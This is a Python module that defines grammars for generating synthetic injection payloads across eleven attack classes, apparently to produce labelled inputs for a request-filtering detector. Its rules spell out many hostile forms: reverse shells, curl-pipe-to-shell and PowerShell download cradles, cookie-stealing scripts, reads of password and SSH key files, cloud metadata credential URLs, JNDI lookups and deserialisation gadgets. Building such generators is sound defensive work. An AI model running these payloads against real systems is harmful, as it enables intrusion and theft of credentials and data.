"""Attacks as grammars of our own, by class: how a value leaves its place and what it does then, in many dialects.

They are made to be told apart from good text, not to work: no target, no payload that was seen anywhere. Written from what
the languages allow (SQL of MySQL, PostgreSQL, SQL Server, Oracle, SQLite; POSIX shells, cmd and PowerShell; HTML; the
template engines' manuals; RFC 4515; XML 1.0), not from lists of attacks.
"""

from __future__ import annotations

from collections.abc import Mapping
from random import Random
from types import MappingProxyType
from typing import Final

from gateway.analyst.text.disguise import disguised
from gateway.analyst.text.grammar import Grammar

SQL: Final = Grammar(
    {
        "start": """
«before»«quit» «join» «truth»«after»
«before»«quit» «join» «truth»«after»
«before»«quit» «union»«after»
«before»«quit» «union»«after»
«before»«quit»; «statement»«after»
«before»«quit» «join» «delay»«after»
«before»«quit» «join» «blind»«after»
«before»«quit»«after_needed»
«before»«quit» order by «small»«after»
«before»«quit» group by «column» having «truth»«after»
«before»'||«call»||'
«before»'+«call»+'
«before»' «join» «column» like '«letter»%«after»
(«subquery»)
«number» «join» «truth»
«number»-«call»
«before»«quit» «join» «error»«after»
«before»«quit» procedure analyse(«error»,«small»)«after»
«before»') «join» ('«letter»'='«letter»
«before»' «join» '«letter»'='«letter»
«before»" «join» "«letter»"="«letter»
«before»' into outfile '/«word»/«word».php'«after»
«before»'='
«before»'-'0
'«join»'«small»'='«small»
""",
        "before": "«empty»\n«empty»\n«number»\n-«small»\n«word»\nadmin\n«word»@«domain»\n«token»",
        "quit": "'\n'\n\"\n')\n'))\n\")\n)\n`\n\\'\n''\n«empty»\n%'\n';",
        "join": "or\nor\nand\nand\n||\n&&\nxor\nor not\nand not\nwhere",
        "truth": """
«small»=«small»
«number»=«number»
'«letter»'='«letter»'
'«word»'='«word»'
"«letter»"="«letter»"
«small» like «small»
«small»<>«small»
«small»<«number»
«column» is not null
true
not false
«small» in («small»,«small»)
«small» between «small» and «small»
'«letter»' like '«letter»'
«column»='«word»'
(«small»)=(«small»)
«small»=«small» and '«letter»'='«letter»
exists(«subquery»)
«column» regexp '^«letter»'
length(«column»)>«small»
""",
        "after": "«empty»\n--\n-- \n-- -\n--+\n#\n/*\n;--\n;\n -- «word»\n;%00\n) -- \n)#",
        "after_needed": "--\n-- \n-- -\n#\n/*\n;--\n;%00\n or 1-- -\n;#",
        "union": """
union «all»select «values»
union «all»select «values» from «table»
union «all»select «values» from «catalogue»
union «all»select «columns» from «table»
union «all»(select «values»)
union «all»select * from «table»
union «all»select «values» from «table» where «truth»
union «all»select top «small» «columns» from «table»
union «all»select «values» limit «small»,«small»
""",
        "all": "«empty»\n«empty»\nall \ndistinct ",
        "values": "null\nnull,«values»\n«small»,«values»\n«small»\n«call»,«values»\n'«letter»',«values»\n0x«hexes»,null\n«call»",
        "columns": "«column»\n«column»,«columns»\nconcat(«column»,0x3a,«column»)\ngroup_concat(«column»)\n«column»||':'||«column»",
        "catalogue": "information_schema.tables\ninformation_schema.columns where table_name='«table»'\nsqlite_master\nall_tables\nsys.objects\npg_catalog.pg_tables\nsysobjects where xtype='U'\ndual\nmysql.user\nv$version",
        "call": "version()\n@@version\nuser()\ncurrent_user\ndatabase()\nsleep(«small»)\nchar(«number»)\nchr(«number»)||chr(«number»)\nconcat(«call»,0x7e)\nload_file('/etc/«word»')\n(«subquery»)\nbanner\nunhex('«hexes»')\n@@hostname\nascii(substr(«call»,«small»,1))",
        "subquery": """
select «columns» from «table»
select «columns» from «table» limit 1
select count(*) from «table»
select «column» from «table» where «truth»
select «call»
select table_name from «catalogue»
select case when («truth») then «small» else «small»/0 end
""",
        "statement": """
drop table «table»
delete from «table»
update «table» set «column»='«word»' where «truth»
insert into «table» values («values»)
insert into «table»(«column») values ('«word»')
exec xp_cmdshell '«word»'
exec master..xp_dirtree '//«domain»/«letter»'
declare @«letter» varchar(«number») set @«letter»=0x«hexes» exec(@«letter»)
waitfor delay '0:0:«small»'
select pg_sleep(«small»)
create user «word» identified by '«word»'
shutdown
select «call»
truncate table «table»
alter table «table» drop «column»
copy «table» to program '«word»'
begin dbms_lock.sleep(«small»); end
grant all on *.* to «word»
""",
        "delay": "sleep(«small»)\n(select sleep(«small»))\nbenchmark(«number»000,md5(«small»))\npg_sleep(«small»)\n(select «small» from (select(sleep(«small»)))«letter»)\ndbms_pipe.receive_message('«letter»',«small»)\nif(«truth»,sleep(«small»),0)\n«small»=(select «small» from pg_sleep(«small»))\nrandomblob(«number»00000)",
        "blind": "ascii(substring((«subquery»),«small»,1))>«number»\nsubstr((«subquery»),«small»,1)='«letter»'\nmid(«call»,«small»,1)='«letter»'\n(«subquery»)=«small»\n(«subquery»)>«small»\nif(«truth»,«small»,«small»)\nord(mid((«subquery»),«small»,1))>«number»\n«small»=(case when («truth») then «small» else «small» end)\nelt(«small»=«small»,«call»)",
        "error": "extractvalue(«small»,concat(0x7e,(«subquery»)))\nupdatexml(«small»,concat(0x7e,«call»),«small»)\ncast((«subquery») as int)\nconvert(int,(«subquery»))\nexp(~(select*from(«subquery»)«letter»))\nctxsys.drithsx.sn(«small»,(«subquery»))\n(select «small» from(select count(*),concat((«subquery»),floor(rand(0)*2))«letter» from «catalogue» group by «letter»)«letter»)\njson_keys((«subquery»))\ngtid_subset(«call»,«small»)",
    }
)
NOSQL: Final = Grammar(
    {
        "start": """
{"$«compare»": «value»}
{"$«compare»":«value»}
{"«column»": {"$«compare»": «value»}}
{"«column»": {"$«compare»": «value»}, "«column»": {"$«compare»": «value»}}
«column»[$«compare»]=«plain»
«word»[$«compare»]=«plain»
«word»[«word»][$«compare»]=«plain»
«before»' || «js» || '
«before»'; «js»; var «letter»='
«before»" || «js» || "«letter»"=="
«before»' && this.«column»«regex»//
{"$where": "«js»"}
{"$where":"«js»"}
$where=«js»
{"$or": [{}, {"«column»": "«word»"}]}
«before»'}, {$«compare»: ''
{$«compare»: «value»}
db.«table».«method»({})
true, $where: '«js»'
{"«column»":{"$regex":"^«letter»"}}
';return(true);var «letter»='
[$«compare»]=«plain»
{"selector":{"_id":{"$«compare»":null}}}
""",
        "compare": "ne\nne\ngt\ngte\nlt\nin\nnin\nexists\nregex\nnot\nwhere\neq\nall\nexpr\nelemMatch\ntype",
        "value": 'null\n""\n1\n-1\ntrue\n["«word»"]\n".*"\n"^«letter»"\n{}\n"«word»"\n[]',
        "plain": "«empty»\n1\n«word»\n.*\n^«letter»\ntrue\n«letter».*",
        "js": "1==1\nthis.«column».match(/^«letter»/)\nsleep(«number»)\nreturn true\nthis.«column» != null\nfunction(){return true}\nwhile(true){}\nthis.«column»=='«word»'\nDate.now()%2==0\nthis.constructor.constructor('«word»')()",
        "regex": ".match(/.*/)\n.length > «small»\n[0]=='«letter»'",
        "before": "«empty»\n«word»\nadmin\n«number»",
        "method": "drop\nremove\nfind\ndeleteMany\nmapReduce",
    }
)
MARKUP: Final = Grammar(
    {
        "start": """
«leave»<script«attributes»>«js»</script>
«leave»<script src=«url»></script>
«leave»<«tag» «event»=«quote»«js»«quote»>
«leave»<«tag» «attribute»=«word» «event»=«js» >
«leave»<«tag»/«event»=«js»>
«leave»<img src=«letter» onerror=«js»>
«leave»<svg/onload=«js»>
«leave»<iframe src="javascript:«js»">
«leave»<a href="javascript:«js»">«word»</a>
«leave»<iframe srcdoc="<«tag» «event»=«js»>"></iframe>
" «event»="«js»
' «event»='«js»
" «event»=«js» «attribute»="
"autofocus «event»=«js» «letter»="
javascript:«js»
data:text/html,<script>«js»</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
'-«js»-'
"-«js»-"
';«js»//
";«js»//
\\';«js»//
</script><script>«js»</script>
<style>@import'«url»';</style>
<object data="javascript:«js»">
<embed src="«url»">
<form action="javascript:«js»"><input type=submit>
<math><mtext><«tag» «event»=«js»></math>
<meta http-equiv="refresh" content="0;url=javascript:«js»">
<base href="«url»">
<link rel=stylesheet href=«url»>
<x «event»=«js» contenteditable>
<video><source onerror="«js»">
${«js»}
<!--><svg onload=«js»>-->
<details open ontoggle=«js»>
<b style="width:expression(«js»)">
<svg><animate onbegin=«js» attributeName=x>
<isindex action=javascript:«js» type=image>
<scr<script>ipt>«js»</scr</script>ipt>
<img """,
        "leave": '«empty»\n«empty»\n">\n\'>\n>\n</textarea>\n</title>\n-->\n</style>\n«word»\n"/>\n\'"><b>',
        "attributes": "«empty»\n«empty» type=text/javascript\n/«letter»\n ",
        "tag": "img\nsvg\nbody\ninput\nvideo\naudio\ndetails\niframe\na\ndiv\nbutton\nmarquee\nselect\nobject\n«word»\nform\ntable\np\nkeygen\nbr",
        "event": "onerror\nonload\nonclick\nonfocus\nonmouseover\nonmouseenter\nontoggle\nonanimationstart\nonpointerover\nonblur\nonwheel\nonstart\noncut\nonkeydown\nonbeforetoggle\nontransitionend\non«word»",
        "attribute": "src\nclass\nid\nstyle\nhref\nautofocus tabindex\ntype\nalt",
        "quote": "\"\n'\n«empty»\n`",
        "js": """
alert(«small»)
alert(1)
alert`«small»`
alert('«word»')
alert(document.cookie)
alert(document.domain)
confirm(«small»)
prompt(«small»)
eval(atob('«token»'))
fetch('«url»'+document.cookie)
fetch(`«url»${document.cookie}`)
document.location='«url»'+document.cookie
window.location='«url»'
new Image().src='«url»'+document.cookie
top['al'+'ert'](«small»)
window['«word»']()
self[`«word»`](«small»)
eval(name)
eval(location.hash.slice(1))
import('«url»')
String.fromCharCode(«number»,«number»,«number»)
document.write('<img src=«url»>')
document.body.innerHTML='«word»'
localStorage.getItem('«word»')
setTimeout('«word»()',«small»)
[].constructor.constructor('alert(«small»)')()
Function('alert(«small»)')()
$.getScript('«url»')
(a=alert)(«small»)
onerror=alert;throw «small»
navigator.sendBeacon('«url»',document.cookie)
console.log(«small»)
print()
""",
        "url": "//«domain»\nhttp://«domain»/«letter».js\nhttps://«domain»/?«letter»=\n//«address»/«word»\nhttps://«domain»/«word»",
    }
)
SHELL: Final = Grammar(
    {
        "start": """
«before»; «command»
«before»;«command»
«before» | «command»
«before»|«command»
«before»|| «command»
«before» && «command»
«before»&&«command»
«before»`«command»`
«before»$(«command»)
«before»\\n«command»
«before» & «command» &
«before»; «command» #
«before»';«command»;'
«before»";«command»;"
«before»'|«command»#
«before»"&«command»&"
«command»
|«command»|
;«command»;
$(«command»)
`«command»`
() { :;}; «command»
«before»%0a«command»
{«word»,«file»}
""",
        "before": "«empty»\n«empty»\n«number»\n«word»\n«address»\n127.0.0.1\n«domain»\n«word».txt",
        "command": """
cat «file»
cat «file»
ls -la «folder»
ls
ls «folder»
id
whoami
uname -a
ping -c «small» «domain»
ping -n «small» «address»
nslookup «domain»
dig «domain»
curl http://«domain»/«letter»|sh
curl http://«address»/«word» -o «folder»«word»
curl -d @«file» http://«domain»
wget http://«domain»/«word» -O «folder»«word»; chmod +x «folder»«word»
wget -q http://«address»/«letter».sh
wget http://«address»/«word»
nc -e /bin/sh «address» «number»
nc «address» «number»
bash -i >& /dev/tcp/«address»/«number» 0>&1
bash -c '«command»'
sh -c "«command»"
/bin/cat «file»
/usr/bin/id
/???/c?t «file»
python -c 'import os;os.system("«word»")'
python3 -c "import socket,subprocess,os"
perl -e 'system("«word»")'
php -r 'system("«word»");'
ruby -e 'exec "«word»"'
echo «token»|base64 -d|sh
echo «word» > «folder»«word»
rm -rf «folder»
sleep «small»
dir c:\\
type c:\\windows\\win.ini
powershell -enc «token»
powershell -c "iex(new-object net.webclient).downloadstring('http://«domain»/«letter»')"
cmd /c «word»
cmd.exe /c dir
net user «word» «word» /add
certutil -urlcache -f http://«domain»/«letter».exe «letter».exe
env
printenv
ps aux
netstat -an
ifconfig
ipconfig /all
find / -name «word»
grep -r «word» /
head -n «small» «file»
tail «file»
tac «file»
nl «file»
xxd «file»
kill -9 «number»
mkfifo /tmp/«letter»;nc «address» «number» 0</tmp/«letter»
crontab -l
systeminfo
reboot
w
touch /tmp/«word»
vol
echo $PATH
""",
        "file": "/etc/passwd\n/etc/passwd\n/etc/shadow\n/etc/hosts\n/proc/self/environ\n/var/log/«word».log\n~/.ssh/id_rsa\n/root/.bash_history\n/home/«word»/.«word»\n/«word»/«word»\n.env\n/etc/«word».conf\nconfig.php",
        "folder": "/\n/tmp/\n/etc/\n/var/www/\n/dev/shm/\n~/\n/home/«word»/\n.",
    }
)
PATHS: Final = Grammar(
    {
        "start": """
«up»«target»
«up»«target»
/«up»«target»
«word»/«up»«target»
«word».«extension»/«up»«target»
«absolute»
file://«absolute»
file:///«up»«target»
«wrapper»
C:\\«windows»
c:/«windows»
«up»«windows»
\\\\«address»\\«word»\\«word»
/«word»/..;/«word»/«word»
/.git/config
/.env
«up».env
/WEB-INF/web.xml
«up»WEB-INF/web.xml
/proc/self/«proc»
«up»proc/self/«proc»
""",
        "up": "«step»«step»\n«step»«step»«step»\n«step»«step»«step»«step»«step»\n«step»«step»«step»«step»«step»«step»«step»«step»\n«step»",
        "step": "../\n../\n../\n..\\\n....//\n..%2f\n..%5c\n%2e%2e/\n%2e%2e%2f\n..%252f\n..%c0%af\n.../\n..././\n/../\n..//\n..;/\n%c0%ae%c0%ae/\n..\\/",
        "target": "etc/passwd\netc/passwd\netc/shadow\netc/hosts\netc/«word».conf\nproc/self/environ\nvar/log/«word»/access.log\nboot.ini\nwindows/win.ini\nroot/.ssh/id_rsa\nhome/«word»/.ssh/authorized_keys\nvar/www/html/«word».php\nconfig/database.yml\nsecrets/«word».key\n«word»/«word»\n«word».«extension»",
        "absolute": "/etc/passwd\n/etc/shadow\n/etc/group\n/etc/issue\n/proc/self/environ\n/proc/self/cmdline\n/var/log/auth.log\n/root/.bashrc\n/etc/ssh/sshd_config\n/etc/nginx/nginx.conf",
        "windows": "windows\\win.ini\nwindows\\system32\\drivers\\etc\\hosts\nboot.ini\nwindows\\system32\\cmd.exe\nwindows/system.ini\ninetpub\\logs\\«word»\nwinnt\\win.ini",
        "wrapper": "php://filter/convert.base64-encode/resource=«word».php\nphp://input\nphp://filter/read=string.rot13/resource=«word»\nexpect://«word»\nzip://«word».zip#«word»\nphar://«word».phar/«word»\ndata://text/plain;base64,«token»\njar:file:///«word».jar!/\nhttp://«domain»/«word».txt?\nhttps://«domain»/shell.php",
        "extension": "php\njpg\nini\nconf\nlog\nxml\nyml\ntxt\nbak\nsql",
        "proc": "environ\ncmdline\nmaps\nfd/«small»\nstatus",
    }
)
TEMPLATES: Final = Grammar(
    {
        "start": """
«before»{{«sum»}}
«before»${«sum»}
«before»#{«sum»}
«before»<%= «sum» %>
«before»{{«python»}}
{% «statement» %}
«before»${«java»}
«before»#{«java»}
«before»*{«java»}
«before»@(«sum»)
«before»${{«sum»}}
«before»{«sum»}
«before»[[${«sum»}]]
<#assign «letter»="freemarker.template.utility.Execute"?new()>${«letter»("«word»")}
#set($«letter»='')#set($«letter»=$«letter».class.forName('java.lang.Runtime'))
{{constructor.constructor('alert(«small»)')()}}
{php}echo `«word»`;{/php}
{{['«word»']|filter('system')}}
{{_self.env.registerUndefinedFilterCallback('exec')}}
«jndi»
«jndi»
__${«java»}__::.x
<%= system('«word»') %>
<%= `«word»` %>
%{«java»}
%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#«letter»='«word»')}
{{«python»}}{{«sum»}}
#{«letter».getClass().forName("java.lang.Runtime")}
""",
        "before": "«empty»\n«empty»\n«word»\n«number»\n}}\nHello ",
        "sum": "«small»*«small»\n7*7\n«number»*«number»\n'«small»'*«small»\n7*'7'\n«number»+«number»\n«number»-«small»",
        "python": """
config
config.items()
self
request.application.__globals__
''.__class__.__mro__[«small»].__subclasses__()
[].__class__.__base__.__subclasses__()[«number»]
«word».__init__.__globals__['os'].popen('«word»').read()
cycler.__init__.__globals__.os.popen('«word»').read()
lipsum.__globals__['os'].popen('«word»').read()
request|attr('application')|attr('__globals__')
url_for.__globals__
get_flashed_messages.__globals__.__builtins__
()|attr('__class__')|attr('__base__')
settings.SECRET_KEY
""",
        "statement": "for «letter» in ().__class__.__base__.__subclasses__()\nimport os\ninclude '/etc/passwd'\nset «letter» = ''.__class__\nif «small» == «small»\ndebug\nload «word»",
        "java": "T(java.lang.Runtime).getRuntime().exec('«word»')\nT(java.lang.System).getenv()\n«letter».class.forName('java.lang.Runtime')\nnew java.lang.ProcessBuilder({'«word»'}).start()\n@java.lang.Runtime@getRuntime().exec('«word»')\npageContext.request.getSession()\nsessionScope\nT(org.apache.commons.io.IOUtils).toString(«small»)\n''.getClass().forName('java.lang.Runtime')\napplicationScope",
        "jndi": "${jndi:ldap://«domain»/«letter»}\n${jndi:rmi://«address»:«number»/«word»}\n${jndi:dns://«domain»}\n${${lower:j}ndi:${lower:l}dap://«domain»/«letter»}\n${${::-j}${::-n}${::-d}${::-i}:ldap://«domain»/«letter»}\n${jndi:ldap://${env:«word»}.«domain»/«letter»}\n${${env:«letter»:-j}ndi:iiop://«domain»/«letter»}\n${sys:java.version}\n${env:AWS_SECRET_ACCESS_KEY}",
    }
)
ADDRESSES: Final = Grammar(
    {
        "start": """
«scheme»«inside»«rest»
http://«inside»«rest»
http://«inside»«rest»
https://«inside»«rest»
http://«meta»
http://«domain»@«inside»/
http://«inside»#@«domain»/
http://«inside»%23.«domain»/
//«inside»/«word»
gopher://«inside»:«port»/_«hexes»
gopher://«address»:«port»/_%2a1%0d%0a$8%0d%0aflushall
dict://«inside»:«port»/info
file:///etc/passwd
file:///«word»/«word»
ldap://«inside»:«port»/%0astats
sftp://«domain»:«port»/
tftp://«domain»:«port»/«word»
netdoc:///etc/passwd
jar:http://«domain»/«word».jar!/
http://«inside»:«port»/admin/«word»
""",
        "scheme": "http://\nhttps://\nftp://\ngopher://\ndict://\nldap://",
        "inside": "127.0.0.1\nlocalhost\n0.0.0.0\n127.1\n0177.0.0.1\n0x7f000001\n2130706433\n[::1]\n[::ffff:127.0.0.1]\n10.«small».«small».«small»\n192.168.«small».«small»\n172.16.«small».«small»\n169.254.169.254\n127.0.0.1.nip.io\nlocalhost.«domain»\n0\n127.0.0.«small»\n[0:0:0:0:0:ffff:127.0.0.1]\nmetadata",
        "meta": "169.254.169.254/latest/meta-data/\n169.254.169.254/latest/meta-data/iam/security-credentials/«word»\n169.254.169.254/latest/user-data\nmetadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token\n169.254.169.254/metadata/instance?api-version=2021-02-01\n100.100.100.200/latest/meta-data/\n169.254.170.2/v2/credentials\n[fd00:ec2::254]/latest/meta-data/\nkubernetes.default.svc/api/v1/secrets",
        "rest": "«empty»\n/\n:«port»\n:«port»/\n/admin\n:«port»/«word»\n/server-status\n:«port»/_cat/indices\n/latest/meta-data/",
        "port": "22\n25\n80\n443\n3306\n5432\n6379\n8080\n9200\n11211\n27017\n2375\n8500",
    }
)
XML: Final = Grammar(
    {
        "start": """
«prolog»<!DOCTYPE «word» [<!ENTITY «letter» SYSTEM "«uri»">]><«word»>&«letter»;</«word»>
«prolog»<!DOCTYPE «word» [ <!ELEMENT «word» ANY ><!ENTITY «letter» SYSTEM "«uri»" >]><«word»>&«letter»;</«word»>
«prolog»<!DOCTYPE «word» [<!ENTITY % «letter» SYSTEM "«uri»"> %«letter»;]>
«prolog»<!DOCTYPE «word» SYSTEM "«uri»"><«word»/>
<!DOCTYPE «word» [<!ENTITY % «letter» SYSTEM "«uri»"><!ENTITY % «word» "<!ENTITY &#x25; «letter» SYSTEM '«uri»?%«letter»;'>">%«word»;]>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol«small» "&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><«word»>&lol«small»;</«word»>
<«word» xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="«uri»"/></«word»>
<?xml-stylesheet type="text/xsl" href="«uri»"?><«word»/>
<!ENTITY «letter» SYSTEM "«uri»">
<!DOCTYPE «word» PUBLIC "-//«word»//«letter»" "«uri»">
<svg><image xlink:href="«uri»"/></svg>
""",
        "prolog": '<?xml version="1.0"?>\n<?xml version="1.0" encoding="UTF-8"?>\n<?xml version="1.0" encoding="utf-16" standalone="no"?>\n«empty»',
        "uri": "file:///etc/passwd\nfile:///«word»/«word»\nhttp://«domain»/«letter».dtd\nhttp://169.254.169.254/latest/\nphp://filter/read=convert.base64-encode/resource=«word».php\nexpect://id\nfile:///c:/windows/win.ini\nftp://«address»/«letter»\nhttps://«domain»/«word»\n/etc/passwd\ngopher://«address»/«letter»",
    }
)
DIRECTORY: Final = Grammar(
    {
        "start": """
*
*)(«attribute»=*
*)(«attribute»=*))(|(«attribute»=*
«word»)(&)
«word»)(|(«attribute»=*
«word»)(|(«attribute»=*))
*)(uid=*))(|(uid=*
admin*)((|«attribute»=*)
*))%00
)(cn=))\\x00
«word»*)(«attribute»=«letter»*
*)(objectClass=«word»)(«attribute»=*
(&(«attribute»=*)(«attribute»=«letter»*))
*|(«attribute»=*)
«word»)(!(&(1=0
' or «xpath» or '
'] | //«word»[«small»='
' or count(//«word»)=«small» or 'a'='b
x' or name()='«word»' or 'x'='y
«word»' and substring(//«word»[«small»]/«column»,«small»,1)='«letter»
""",
        "attribute": "uid\ncn\nmail\nuserPassword\nobjectClass\nsn\nmemberOf\nsAMAccountName\ntelephoneNumber",
        "xpath": "1=1\nposition()=«small»\nstring-length(name(/*[«small»]))=«number»\n//«word»/text()\ncontains(«column»,'«letter»')\nstarts-with(name(),'«letter»')",
    }
)
OBJECTS: Final = Grammar(
    {
        "start": """
O:«small»:"«word»":«small»:{s:«small»:"«word»";s:«small»:"«word»";}
a:«small»:{i:0;O:«small»:"«word»":«small»:{s:«small»:"«column»";b:1;}}
O:«number»:"«word»\\«word»":«small»:{s:«small»:"«column»";O:«small»:"«word»":0:{}}
rO0AB«javas»
rO0ABXNyA«javas»
aced0005737200«hexes»«hexes»
{"@type":"«class»","«column»":"«call»","autoCommit":true}
["«class»",{"«column»":"«call»"}]
!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://«domain»/"]]]]
!!python/object/apply:os.system ["«word»"]
!!python/object/new:subprocess.check_output [["«word»"]]
!!ruby/object:Gem::Installer\\n i: «letter»
--- !ruby/object:«word»
cos\\nsystem\\n(S'«word»'\\ntR.
c__builtin__\\neval\\n(V«word»\\ntR.
gASV«javas»
{"py/object": "«word».«word»", "py/reduce": [{"py/type": "os.system"}, ["«word»"]]}
{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('«word»')}()"}
{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}
AAEAAAD/////«javas»
<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><void method="start"/></object></java>
{"__proto__": {"«word»": true}}
{"__proto__":{"isAdmin":true}}
{"constructor": {"prototype": {"«word»": "«word»"}}}
__proto__[«word»]=«word»
constructor[prototype][«word»]=true
__proto__.«word»=«small»
""",
        "javas": "«token»«token»\n«token»==\n«token»AAAAAAAAAB«token»",
        "class": "com.sun.rowset.JdbcRowSetImpl\norg.apache.xbean.propertyeditor.JndiConverter\nch.qos.logback.core.db.DriverManagerConnectionSource\norg.springframework.context.support.ClassPathXmlApplicationContext\ncom.«word».«word».TemplatesImpl\njava.lang.Class\norg.apache.commons.configuration.JNDIConfiguration",
        "call": "ldap://«domain»/«letter»\nrmi://«address»:«number»/«word»\nhttp://«domain»/«word».xml\njndi:ldap://«domain»",
    }
)
CODE: Final = Grammar(
    {
        "start": """
<?php «php»; ?>
<?php «php»;
<?= «php» ?>
<?=`$_GET[«letter»]`?>
«before»;«php»;//
«before»';«php»;//
«before»".«php»."
${@«php»}
{${«php»}}
__import__('os').«python»
eval(compile('import os','','exec'))
exec("import os;os.«python»")
«before»'+__import__('os').popen('«word»').read()+'
require('child_process').exec«sync»('«word»')
global.process.mainModule.require('child_process').exec«sync»('«word»').toString()
process.binding('fs')
(function(){return this})().process.exit()
res.end(require('fs').readFileSync('/etc/passwd'))
Runtime.getRuntime().exec("«word»")
<% Runtime.getRuntime().exec(request.getParameter("«letter»")); %>
class.module.classLoader.resources.context.parent.pipeline.first.pattern=«word»
<!--#exec cmd="«word»" -->
<!--#include virtual="/etc/passwd" -->
\\r\\nSet-Cookie: «word»=«word»
%0d%0aLocation: http://«domain»
%0d%0a%0d%0a<html>«word»
=cmd|' /C calc'!A0
@SUM(1+9)*cmd|' /C calc'!A0
""",
        "before": "«empty»\n«number»\n«word»\n1)",
        "php": "system('«word»')\nphpinfo()\neval($_POST['«letter»'])\nassert($_GET[«letter»])\nshell_exec('«word»')\npassthru('«word»')\nfile_get_contents('/etc/passwd')\nexec($_REQUEST['«letter»'])\nprint(md5(«number»))\neval(base64_decode('«token»'))\nfile_put_contents('«word».php','«word»')\nsystem($_GET['«letter»'])\ndie(md5(«number»))\npopen('«word»','r')\ncall_user_func('system','«word»')\ninclude('http://«domain»/«letter»')\npreg_replace('/«letter»/e','«word»','«letter»')",
        "python": "system('«word»')\npopen('«word»').read()\nenviron\nlistdir('/')",
        "sync": "«empty»\nSync",
    }
)
_GRAMMARS: Final[Mapping[str, Grammar]] = MappingProxyType(
    {
        "sqli": SQL, "nosqli": NOSQL, "xss": MARKUP, "rce": SHELL, "traversal": PATHS, "ssti": TEMPLATES, "ssrf": ADDRESSES,
        "xxe": XML, "ldap": DIRECTORY, "deserialisation": OBJECTS, "code": CODE,
    }
)  # fmt: skip
SHARES: Final[Mapping[str, int]] = MappingProxyType(
    {
        "sqli": 26, "nosqli": 6, "xss": 22, "rce": 14, "traversal": 9, "ssti": 6, "ssrf": 4, "xxe": 3, "ldap": 3,
        "deserialisation": 3, "code": 4,
    }
)  # fmt: skip
"""of a hundred attacks, how many are of each class"""


def attack(random: Random, kind: str) -> str:
    """One attack of a class of `SHARES`, as a value of a request might hold it."""
    return disguised(random, kind, _GRAMMARS[kind].draw(random, "start"))
